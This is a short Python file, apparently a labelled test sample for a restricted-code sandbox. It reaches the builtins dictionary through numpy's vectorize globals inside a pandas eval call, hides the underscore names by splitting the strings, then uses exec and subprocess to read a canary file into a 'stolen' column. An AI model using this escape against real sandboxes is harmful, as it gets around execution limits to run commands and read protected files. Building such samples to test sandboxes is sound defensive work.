@@ -1,0 +1,19 @@
+# class: string_exec
+# technique: the builtins dict read from np.vectorize.__init__.__globals__ in expression text; its exec runs source text (DataFrame.eval reached as map(functools.partial(frame.agg, local_dict=...), ['eval'], [0], [expr]))
+# goal: exec
+import numpy as np
+import pandas as pd
+
+frame = pd.DataFrame({"x": np.arange(2)})
+import functools
+
+
+def ev(expr, **names):
+    return list(map(functools.partial(frame.agg, local_dict=names), ["eval"], [0], [expr]))[0]
+
+u = "_" * 2
+
+b = ev("@v[0]." + u + "init" + u + "." + u + "globals" + u + "['" + u + "builtins" + u + "']", v=[np.vectorize])
+scope = {"cmd": "cat {{CANARY_FILE}}"}
+b["exec"]("import subprocess\nout = subprocess.getoutput(cmd)", scope)
+df = pd.DataFrame({"stolen": [scope["out"]]})
